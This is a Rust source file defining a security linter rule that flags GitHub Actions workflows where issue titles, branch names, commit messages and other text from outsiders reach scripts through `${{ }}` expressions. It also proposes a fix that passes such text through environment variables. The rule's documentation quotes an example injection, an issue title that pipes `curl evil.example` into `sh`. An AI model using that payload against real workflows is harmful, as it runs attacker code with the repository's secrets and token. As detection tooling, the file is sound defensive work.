use policy_sdk::language::expression::{Expression, expressions};
use policy_sdk::language::shell::{Command, all_commands, lists};
use policy_sdk::prelude::*;
use policy_sdk::repository::github::outsider::{self, Conditions, Reach};
use policy_sdk::repository::github::tainted::{Writer, writer};
use policy_sdk::repository::github::{self, Permissions, Shells, Triggers, Used, UsedActions};

policy_sdk::rule! {
    /// Texts of strangers do not become code
    ///
    /// No `${{ }}` puts a text that somebody without rights writes into a script: the title or body of an issue, pull
    /// request, discussion, comment or review, the name of a branch, the message or author of a commit. Scripts are
    /// `run`, the `script` of `actions/github-script`, and such inputs of other actions. Texts are followed through
    /// `env` and the outputs of steps and jobs. Nor is such a text written to `$GITHUB_ENV` or `$GITHUB_PATH`. Inputs
    /// of a workflow or an action are milder, since it takes rights to give them.
    ///
    /// What is only compared (`==`, `contains()`) cannot become code. Jobs that strangers cannot start pass:
    /// `if: github.event.pull_request.head.repo.full_name == github.repository`.
    ///
    /// ## Why
    /// GitHub replaces `${{ }}` before the shell reads the script. An issue with the title `"; curl evil.example | sh;
    /// "` runs that command, with the job's secrets and its token.
    ///
    /// ## Fix
    /// Hand the text over in a variable, in quotes. The shell does not read variables as code:
    ///
    /// ```yaml
    /// - run: echo "$TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// In `actions/github-script`, use `context.payload.issue.title` or `process.env.TITLE`.
    findings: {
        /// Anybody runs code with secrets or a token that may write
        Injection: Critical, Certain;
        /// Anybody runs code, but without either, or somebody has to approve it first
        LimitedInjection: High, Certain;
        /// Anybody sets variables of later steps
        Environment: High, Likely;
        /// Whoever opens a pull request runs code in its own run
        PullRequestInjection: Medium, Certain;
        /// The author of a commit that is merged runs code
        CommitInjection: Medium, Likely;
        /// Whoever starts the workflow, or calls it, runs code
        InputInjection: Medium, Certain;
    },
    priority: P1,
    effort: Small,
    factor: Security,
    peers: ["ZZ:template-injection", "ZZ:github-env", "CK:CKV_GHA_2", "AL:expression"],
    since: "0.1.0",
    applies_to: ["file/GitHubWorkflow", "file/GitHubAction"],
    uses: [Triggers, Conditions, Permissions, Shells, UsedActions],
    reads: [
        "env", "env.*:expression", "jobs.*.runs-on", "jobs.*.env", "jobs.*.env.*:expression", "jobs.*.secrets",
        "jobs.*.steps[*].env", "jobs.*.steps[*].env.*:expression",
        "jobs.*.steps[*].with", "jobs.*.steps[*].with.*:expression", "jobs.*.steps[*].run",
        "jobs.*.steps[*].run:expression", "jobs.*.steps[*].run:shell", "runs.steps[*].id", "runs.steps[*].env",
        "runs.steps[*].env.*:expression", "runs.steps[*].with", "runs.steps[*].with.*:expression",
        "runs.steps[*].run", "runs.steps[*].run:expression", "runs.steps[*].run:shell",
    ],
    inventory: {
        callers: {
            kinds: ["file/GitHubWorkflow", "file/GitHubAction"],
            scope: "cluster",
            relation: calls {},
            reads: [
                "on", "jobs.*.if", "jobs.*.if:expression", "jobs.*.needs", "jobs.*.environment", "jobs.*.uses",
                "jobs.*.with", "jobs.*.with.*:expression", "jobs.*.steps[*].uses",
                "jobs.*.steps[*].with", "jobs.*.steps[*].with.*:expression",
            ],
        },
    },
}

/// Inputs of actions that are code. Besides `run`; from the sinks that CodeQL's queries for Actions know.
const SCRIPTS: [(&str, &str); 10] = [
    ("actions/github-script", "script"),
    ("amadevus/pwsh-script", "script"),
    ("addnab/docker-run-action", "run"),
    ("appleboy/ssh-action", "script"),
    ("azure/cli", "inlinescript"),
    ("azure/powershell", "inlinescript"),
    ("mikefarah/yq", "cmd"),
    ("devorbitus/yq-action-output", "cmd"),
    ("sergeysova/jq-action", "cmd"),
    ("gautamkrishnar/blog-post-workflow", "item_exec"),
];

/// Where a step stands.
#[derive(Clone, Copy)]
struct Place<'s, 'd> {
    input: &'s Input<'d, Parameters>,
    job: Option<&'s View<'d>>,
    steps: &'s View<'d>,
    step: &'s View<'d>,
}

/// A text that somebody may mean harm with.
struct Source<'d> {
    context: &'d str,
    writer: Writer,
}

fn check(input: &Input<'_, Parameters>, findings: &mut Findings) -> Check {
    let document = &input.document;
    for (_, job) in document.get("jobs").entries() {
        let steps = job.get("steps");
        for step in steps.items() {
            judge_step(Place { input, job: Some(&job), steps: &steps, step: &step }, findings);
        }
    }
    let steps = document.at("runs.steps");
    for step in steps.items() {
        judge_step(Place { input, job: None, steps: &steps, step: &step }, findings);
    }
    Ok(())
}

fn judge_step(place: Place<'_, '_>, findings: &mut Findings) {
    let step = place.step;
    let mut fix = fix(place);
    for expression in expressions(&step.get("run:expression")) {
        judge_expression(place, &expression, "the script", &mut fix, findings);
    }
    let with = step.get("with");
    if let Some(Used::Action(action)) = Used::parse(step.get("uses").text()) {
        for (key, _) in with.entries() {
            if SCRIPTS.iter().any(|(name, script)| action.is(name) && key.eq_ignore_ascii_case(script)) {
                for expression in expressions(&with.get(&format!("{key}:expression"))) {
                    judge_expression(place, &expression, &format!("`{key}`"), &mut None, findings);
                }
            }
        }
    }
    judge_environment(place, findings);
}

fn judge_expression(
    place: Place<'_, '_>,
    expression: &Expression<'_>,
    script: &str,
    fix: &mut Option<Fix>,
    findings: &mut Findings,
) {
    for part in expression.flows() {
        let Some(source) = source(place, part.context(), 0) else { continue };
        let Some((code, who)) = weigh(place, &source) else { continue };
        let by = if source.context == part.context() {
            String::new()
        } else {
            format!(" holds `{}`, which", source.context)
        };
        let message = match by.is_empty() {
            true => format!("`{}` becomes code of {script}, and {who} writes it", part.context()),
            false => format!("`{}`{by} becomes code of {script}, and {who} writes it", part.context()),
        };
        findings.report(code, &part, message).fix(fix.take());
    }
}

/// Where the text of a context comes from: itself, or what a variable or an output of this workflow holds.
fn source<'d>(place: Place<'_, 'd>, context: &'d str, depth: u8) -> Option<Source<'d>> {
    if let Some(writer) = writer(context) {
        return Some(Source { context, writer });
    }
    if depth > 3 {
        return None;
    }
    let of_tree = |place: Place<'_, 'd>, tree: View<'d>| {
        expressions(&tree).flat_map(|it| it.flows()).find_map(|it| source(place, it.context(), depth + 1))
    };
    if let Some(name) = context.strip_prefix("env.") {
        let (env, key) = variable(place, |key| key.eq_ignore_ascii_case(name))?;
        return of_tree(place, env.get(&format!("{key}:expression")));
    }
    if let Some((id, name)) = context.strip_prefix("needs.").and_then(|rest| rest.split_once(".outputs.")) {
        let jobs = place.input.document.get("jobs");
        let (_, job) = jobs.entries().find(|(key, _)| key.eq_ignore_ascii_case(id))?;
        let (outputs, steps) = (job.get("outputs"), job.get("steps"));
        let (key, _) = outputs.entries().find(|(key, _)| key.eq_ignore_ascii_case(name))?;
        let tree = outputs.get(&format!("{key}:expression"));
        return of_tree(Place { job: Some(&job), steps: &steps, ..place }, tree);
    }
    let (id, name) = context.strip_prefix("steps.")?.split_once(".outputs.")?;
    let step = place.steps.items().find(|step| step.get("id").text().eq_ignore_ascii_case(id))?;
    // `echo "title=$TITLE" >> "$GITHUB_OUTPUT"`
    let there = Place { step: &step, ..place };
    all_commands(&step.get("run:shell")).iter().filter(|it| writes_to(it, "GITHUB_OUTPUT")).find_map(|command| {
        command.program_words().find_map(|word| {
            let (key, _) = word.text().split_once('=')?;
            key.eq_ignore_ascii_case(name).then(|| in_word(there, &word, depth + 1))?
        })
    })
}

/// A variable of the step, its job or the workflow: the `env` that it stands in, and its name there.
fn variable<'d>(place: Place<'_, 'd>, is_it: impl Fn(&str) -> bool) -> Option<(View<'d>, &'d str)> {
    let of_job = place.job.map(|job| job.get("env"));
    let mut all = [Some(place.step.get("env")), of_job, Some(place.input.document.get("env"))].into_iter().flatten();
    all.find_map(|env| {
        let key = env.entries().map(|(key, _)| key).find(|key| is_it(key))?;
        Some((env, key))
    })
}

/// What a word of a command holds, by its variables: those of `env`, and those that the script itself assigned.
fn in_word<'d>(place: Place<'_, 'd>, word: &View<'d>, depth: u8) -> Option<Source<'d>> {
    if depth > 3 {
        return None;
    }
    word.get("parts").items().find_map(|part| {
        // `$(echo "$TITLE" | tr -d x)`
        let of_commands = || {
            let commands = all_commands(&part);
            commands.iter().flat_map(Command::words).find_map(|word| in_word(place, &word, depth + 1))
        };
        let Some(name) = part.get("variable").as_str() else { return of_commands() };
        let Some((env, key)) = variable(place, |key| key == name) else {
            let assignments = lists(&place.step.get("run:shell")).into_iter().flatten();
            let assignments = assignments.flat_map(|command| command.get("assignments").items());
            let mut own = assignments.filter(|it| it.get("name").text() == name);
            return own.find_map(|it| in_word(place, &it.get("value"), depth + 1));
        };
        let tree = env.get(&format!("{key}:expression"));
        expressions(&tree).flat_map(|it| it.flows()).find_map(|it| source(place, it.context(), depth + 1))
    })
}

fn writes_to(command: &Command<'_>, file: &str) -> bool {
    let is_it = |it: View<'_>| it.get("operator").text().starts_with('>') && it.at("target.text").text().contains(file);
    command.get("redirects").items().any(is_it)
}

/// Reports texts with line breaks that are written to `$GITHUB_ENV`, and any that are written to `$GITHUB_PATH`.
fn judge_environment(place: Place<'_, '_>, findings: &mut Findings) {
    for command in all_commands(&place.step.get("run:shell")) {
        let Some(file) = ["GITHUB_ENV", "GITHUB_PATH"].into_iter().find(|file| writes_to(&command, file)) else {
            continue;
        };
        for word in command.program_words().skip(1) {
            let Some(source) = in_word(place, &word, 0) else { continue };
            let has_lines = [".body", ".message", ".issue", ".event", ".pull_request"]
                .iter()
                .any(|end| source.context.ends_with(end));
            let is_of_anybody = matches!(source.writer, Writer::Anybody(_));
            if !(is_of_anybody && (has_lines || file == "GITHUB_PATH")) {
                continue;
            }
            if let Some((Code::Injection | Code::LimitedInjection, who)) = weigh(place, &source) {
                let message = format!("`{}` is written to `${file}`, and {who} writes it", source.context);
                findings.report(Code::Environment, &word, message);
            }
        }
    }
}

/// How bad it is that a text becomes code here, and who writes it; `None` where nobody can do harm.
fn weigh(place: Place<'_, '_>, source: &Source<'_>) -> Option<(Code, String)> {
    let Place { input, job, step, .. } = place;
    let writes = match source.writer {
        Writer::Anybody(events) => events,
        Writer::Committer => return Some((Code::CommitInjection, "the author of a commit".to_owned())),
        Writer::Caller if !is_free_text(input, source.context) => return None,
        Writer::Caller => {
            return Some(handed_over(input, source.context).unwrap_or((Code::InputInjection, caller(input))));
        }
    };
    let own = github::events(input);
    let is_called = own.iter().all(|event| event.name == "workflow_call");
    let called_by: Vec<&str> = match is_called {
        true => {
            input.related("callers").flat_map(|it| github::events_of(&it.document)).map(|event| event.name).collect()
        }
        false => own.iter().map(|event| event.name).collect(),
    };
    let mut worst: Option<(Code, String)> = None;
    for event in called_by.iter().filter(|event| writes.contains(event)) {
        let reach = match job.filter(|_| !is_called) {
            Some(job) => outsider::reach(input, event, job).min(outsider::of_conditions(input, event, job, step)),
            None => Reach::Open,
        };
        let is_privileged = outsider::PRIVILEGED.contains(event);
        let code = match reach {
            Reach::Closed => continue,
            _ if !is_privileged => Code::PullRequestInjection,
            Reach::Open if !job.is_some_and(|job| github::has_nothing_to_take(input, job)) => Code::Injection,
            _ => Code::LimitedInjection,
        };
        let found = (code, format!("whoever causes `{event}`"));
        if worst.as_ref().is_none_or(|(worst, _)| rank(code) > rank(*worst)) {
            worst = Some(found);
        }
    }
    // Nobody here calls it, so that it is not known by which event it runs.
    if worst.is_none() && is_called && called_by.iter().all(|event| *event == "workflow_call") {
        return Some((Code::PullRequestInjection, "whoever causes the event of the caller".to_owned()));
    }
    worst
}

/// Who writes an input, where a caller in the repository hands a stranger's text over in it.
fn handed_over(input: &Input<'_, Parameters>, context: &str) -> Option<(Code, String)> {
    let name = context.strip_prefix("inputs.")?;
    let own = input.subject.name.as_str();
    let is_own = |uses: &View<'_>| {
        let path = uses.text().trim_start_matches("./").trim_start_matches("$/").trim_end_matches('/');
        !path.is_empty() && (own == path || own.rsplit_once('/').is_some_and(|(folder, _)| folder == path))
    };
    input.related("callers").find_map(|related| {
        let events = github::events_of(&related.document);
        let jobs = related.document.get("jobs").entries().map(|(_, job)| job);
        let holders = jobs.flat_map(|job| {
            let steps: Vec<View<'_>> = job.get("steps").items().collect();
            std::iter::once(job.clone()).chain(steps).map(move |holder| (job.clone(), holder))
        });
        holders.filter(|(_, holder)| is_own(&holder.get("uses"))).find_map(|(job, holder)| {
            let with = holder.get("with");
            let (key, _) = with.entries().find(|(key, _)| key.eq_ignore_ascii_case(name))?;
            let tree = with.get(&format!("{key}:expression"));
            expressions(&tree).flat_map(|it| it.flows()).find_map(|part| {
                let Some(Writer::Anybody(writes)) = writer(part.context()) else { return None };
                let event = events.iter().find(|event| writes.contains(&event.name))?.name;
                // Any condition of the caller may keep strangers out: the rule does not look into its steps.
                let is_bound = job.get("if").exists() || job.get("needs").exists();
                let code = match outsider::reach_in(&related.document, event, &job) {
                    Reach::Closed => return None,
                    _ if !outsider::PRIVILEGED.contains(&event) => Code::PullRequestInjection,
                    Reach::Open if !is_bound => Code::Injection,
                    _ => Code::LimitedInjection,
                };
                let context = part.context();
                Some((code, format!("`{}` hands `{context}` over, and whoever causes `{event}`", related.name())))
            })
        })
    })
}

fn rank(code: Code) -> u8 {
    match code {
        Code::Injection => 2,
        Code::LimitedInjection => 1,
        _ => 0,
    }
}

/// Whether an input may be any text, by its type.
fn is_free_text(input: &Input<'_, Parameters>, context: &str) -> bool {
    let name = context.strip_prefix("inputs.").or_else(|| context.strip_prefix("github.event.inputs."));
    let Some(name) = name else { return true };
    let mut types = github::events(input).into_iter().filter_map(|event| {
        let inputs = event.with.get("inputs");
        let (_, declared) = inputs.entries().find(|(key, _)| key.eq_ignore_ascii_case(name))?;
        Some(declared.get("type").text())
    });
    let first = types.next();
    let is_text = |kind: &str| !matches!(kind, "boolean" | "number" | "choice" | "environment");
    first.is_none_or(is_text) || types.any(is_text)
}

fn caller(input: &Input<'_, Parameters>) -> String {
    match github::events(input).iter().any(|event| event.name == "workflow_dispatch") {
        true => "whoever starts the workflow".to_owned(),
        false => "whoever calls it".to_owned(),
    }
}

/// Programs that take code on the command line.
const INTERPRETERS: [&str; 16] = [
    "bash", "sh", "eval", "ssh", "python", "python3", "node", "deno", "perl", "ruby", "php", "awk", "jq", "yq", "psql",
    "mysql",
];

/// Hands all such texts of a script over in variables: where the shell is one, and each stands where a variable is
/// expanded.
fn fix(place: Place<'_, '_>) -> Option<Fix> {
    let Place { input, job, step, .. } = place;
    let shell = github::shell(input, job, step);
    let is_windows = job.is_some_and(|job| {
        let runs_on = job.get("runs-on");
        !runs_on.text().starts_with("ubuntu-") && !runs_on.text().starts_with("macos-")
    });
    let is_shell = matches!(shell.text(), "bash" | "sh") || !shell.exists() && !is_windows;
    let script = step.get("run").text();
    let commands = all_commands(&step.get("run:shell"));
    // What a program reads as code is code in a variable, too.
    if commands.iter().any(|it| it.scripts().next().is_some() || INTERPRETERS.contains(&it.name())) {
        return None;
    }
    let parts: Vec<View<'_>> = commands
        .iter()
        .flat_map(|it| {
            let values = it.get("assignments").items().map(|it| it.get("value"));
            it.words().map(|word| View::clone(&word)).chain(values).collect::<Vec<_>>()
        })
        // What is reckoned is code.
        .filter(|word| !word.get("text").text().contains("(("))
        .flat_map(|word| word.get("parts").items().collect::<Vec<_>>())
        .filter(|part| part.get("expression").exists())
        .collect();
    let env = step.get("env");
    let (mut own, mut variables, mut is_safe) = (script.to_owned(), Vec::<(String, &str)>::new(), true);
    for expression in expressions(&step.get("run:expression")) {
        let Some(source) = expression.flows().iter().find_map(|it| source(place, it.context(), 0)) else { continue };
        weigh(place, &source)?;
        let name = name_of(source.context);
        let is_it = |part: &&View<'_>| {
            let inner = part.get("expression").text().trim_start_matches("${{").trim_end_matches("}}").trim();
            inner.eq_ignore_ascii_case(expression.context())
        };
        let first = parts.iter().find(is_it).filter(|_| is_shell)?;
        let text = first.get("expression").text();
        if !own.contains(text) {
            continue;
        }
        // All that are written so are replaced at once. One in a comment, or where no variable is expanded, is not one of the
        // parts, or is literal.
        let same = || parts.iter().filter(|part| part.get("expression").text() == text);
        let is_between = first.get("quoted").is_true();
        let is_alike = same().all(|it| it.get("quoted").is_true() == is_between && !it.get("literal").is_true());
        if !is_alike || same().count() != own.matches(text).count() || env.get(&name).exists() {
            return None;
        }
        is_safe &= is_between || matches!(source.writer, Writer::Anybody(_));
        let replacement = if is_between { format!("${{{name}}}") } else { format!("\"${name}\"") };
        own = own.replace(text, &replacement);
        if !variables.contains(&(name.clone(), text)) {
            variables.push((name, text));
        }
    }
    if variables.is_empty() {
        return None;
    }
    let title = "hand the text over in a variable";
    let fix = if is_safe { Fix::safe(title) } else { Fix::unsafe_(title) };
    let fix = fix.set(&step.get("run"), own);
    Some(variables.into_iter().fold(fix, |fix, (name, text)| fix.set(&env.get(&name), text)))
}

/// `ISSUE_TITLE` of `github.event.issue.title`.
fn name_of(context: &str) -> String {
    let context = ["github.event.", "github.", "steps.", "needs."]
        .iter()
        .find_map(|of| context.strip_prefix(of))
        .unwrap_or(context);
    let letter = |c: char| if c.is_ascii_alphanumeric() { c.to_ascii_uppercase() } else { '_' };
    context.chars().map(letter).collect::<String>().replace("___", "_")
}
